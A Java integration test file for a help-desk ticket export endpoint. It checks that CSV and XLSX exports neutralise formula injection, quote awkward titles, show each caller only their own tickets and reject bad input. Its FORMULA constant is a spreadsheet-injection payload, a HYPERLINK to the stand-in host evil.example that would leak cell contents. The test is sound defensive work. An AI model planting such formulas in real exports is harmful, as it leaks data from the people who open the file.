package org.flowdesk.ticket;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.flowdesk.ApiClient;
import org.flowdesk.EngineTime;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.http.HttpMethod;
import org.springframework.http.HttpStatus;
import org.springframework.http.ResponseEntity;
import org.springframework.test.context.ActiveProfiles;

import com.fasterxml.jackson.databind.JsonNode;

/**
 * Lists as spreadsheets: GET /api/tickets/export writes what the list finds, all of it, as CSV or
 * XLSX; a title that a spreadsheet would run as a formula stays text; the caller sees in the export
 * what they see in the list and nothing more.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
@ActiveProfiles("test")
class TicketExportTest {

  static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";

  @Autowired
  TestRestTemplate rest;
  @Autowired
  org.springframework.jdbc.core.simple.JdbcClient jdbc;

  ApiClient api;

  @BeforeEach
  void client() {
    EngineTime.reset();
    api = new ApiClient(rest);
  }

  String report(String requester, String title) {
    ResponseEntity<String> reported = api.call(requester, HttpMethod.POST, "/api/incidents", Map.of("title", title,
        "description", "Seen since this morning", "service", "printer", "category", "hardware", "impact", 3,
        "urgency", 3));
    assertThat(reported.getStatusCode()).as(reported.getBody()).isEqualTo(HttpStatus.CREATED);
    return ApiClient.read(reported).get("number").asText();
  }

  ResponseEntity<byte[]> export(String user, String query) {
    return ApiClient.as(rest, user, user).getForEntity("/api/tickets/export" + query, byte[].class);
  }

  static List<CSVRecord> csv(ResponseEntity<byte[]> response) throws IOException {
    String text = new String(response.getBody(), StandardCharsets.UTF_8);
    assertThat(text).startsWith("\uFEFF");
    return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
        .parse(new StringReader(text.substring(1))).getRecords();
  }

  @Test
  void aRequesterExportsHerTicketsAsCsvAndAFormulaInATitleStaysText() throws IOException {
    String formula = report("alice", FORMULA);
    // A title is one line (its form refuses a line break), but one stored before that rule may have a line break:
    // quotes, commas and the break stay as written, quoted.
    String quoted = report("alice", "Printer says \"paper jam\", then, after a minute; nothing");
    jdbc.sql("UPDATE fd_ticket SET title = ? WHERE ticket_number = ?")
        .params("Printer says \"paper jam\", then, after a minute,\nnothing", quoted).update();
    String gretas = report("greta", "Greta's screen flickers");

    ResponseEntity<byte[]> response = export("alice", "?mine=true");
    assertThat(response.getStatusCode()).isEqualTo(HttpStatus.OK);
    assertThat(response.getHeaders().getContentType().toString()).startsWith("text/csv");
    assertThat(response.getHeaders().getContentDisposition().getFilename()).matches("tickets-\\d{4}-\\d{2}-\\d{2}\\.csv");
    List<CSVRecord> rows = csv(response);
    List<String> numbers = rows.stream().map(row -> row.get("number")).toList();
    assertThat(numbers).contains(formula, quoted).doesNotContain(gretas);
    CSVRecord formulaRow = rows.get(numbers.indexOf(formula));
    // A spreadsheet shows the apostrophe-led text; it never runs the formula.
    assertThat(formulaRow.get("title")).isEqualTo("'" + FORMULA);
    assertThat(formulaRow.get("requester")).isEqualTo("alice");
    assertThat(formulaRow.get("priority")).isNotBlank();
    assertThat(formulaRow.get("createdAt")).matches("\\d{4}-\\d{2}-\\d{2}T.*Z");
    assertThat(rows.get(numbers.indexOf(quoted)).get("title"))
        .isEqualTo("Printer says \"paper jam\", then, after a minute,\nnothing");
    // What she sees in her list is what she gets, and nobody else's: no "mine" shows no more.
    List<String> all = csv(export("alice", "")).stream().map(row -> row.get("number")).toList();
    assertThat(all).doesNotContain(gretas);
  }

  @Test
  void anAgentExportsTheListOfAQueueAsXlsxWithTheSameTicketsAsTheList() throws IOException {
    String formula = report("hana", FORMULA);
    report("hana", "+49 call me back");

    JsonNode list = api.get("bob", "/api/tickets?type=incident&open=true&size=200");
    ResponseEntity<byte[]> response = export("bob", "?type=incident&open=true&format=xlsx");
    assertThat(response.getStatusCode()).isEqualTo(HttpStatus.OK);
    assertThat(response.getHeaders().getContentType().toString())
        .isEqualTo("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(response.getBody()))) {
      Sheet sheet = workbook.getSheet("Tickets");
      Row header = sheet.getRow(0);
      assertThat(header.getCell(0).getStringCellValue()).isEqualTo("number");
      assertThat(header.getCell(2).getStringCellValue()).isEqualTo("title");
      List<String> numbers = new ArrayList<>();
      for (int r = 1; r <= sheet.getLastRowNum(); r++) {
        Row row = sheet.getRow(r);
        numbers.add(row.getCell(0).getStringCellValue());
        for (Cell cell : row) {
          assertThat(cell.getCellType()).as("row %d", r).isNotEqualTo(CellType.FORMULA);
        }
        if (formula.equals(numbers.get(numbers.size() - 1))) {
          Cell title = row.getCell(2);
          assertThat(title.getStringCellValue()).isEqualTo(FORMULA);
          assertThat(title.getCellStyle().getQuotePrefixed()).isTrue();
          // Numbers are numbers.
          assertThat(row.getCell(4).getCellType()).isEqualTo(CellType.NUMERIC);
        }
      }
      assertThat(numbers).containsExactlyElementsOf(list.get("items").findValuesAsText("number"));
      assertThat((long) numbers.size()).isEqualTo(list.get("total").asLong());
    }
  }

  @Test
  void aWrongFormatOrStatusIsRefusedBeforeAnythingIsWrittenAndStrangersGetNothing() {
    ResponseEntity<String> format = api.call("bob", HttpMethod.GET, "/api/tickets/export?format=pdf", null);
    assertThat(format.getStatusCode()).isEqualTo(HttpStatus.BAD_REQUEST);
    assertThat(format.getBody()).contains("format").contains("must be csv or xlsx");
    ResponseEntity<String> status = api.call("bob", HttpMethod.GET, "/api/tickets/export?status=nonsense", null);
    assertThat(status.getStatusCode()).isEqualTo(HttpStatus.BAD_REQUEST);
    assertThat(status.getBody()).contains("is no status the models declare");
    ResponseEntity<String> control = ApiClient.as(rest, "bob", "bob").getForEntity(
        URI.create(rest.getRootUri() + "/api/tickets/export?q=a%00b"), String.class);
    assertThat(control.getStatusCode()).isEqualTo(HttpStatus.BAD_REQUEST);
    assertThat(rest.getForEntity("/api/tickets/export", String.class).getStatusCode())
        .isEqualTo(HttpStatus.UNAUTHORIZED);
  }
}
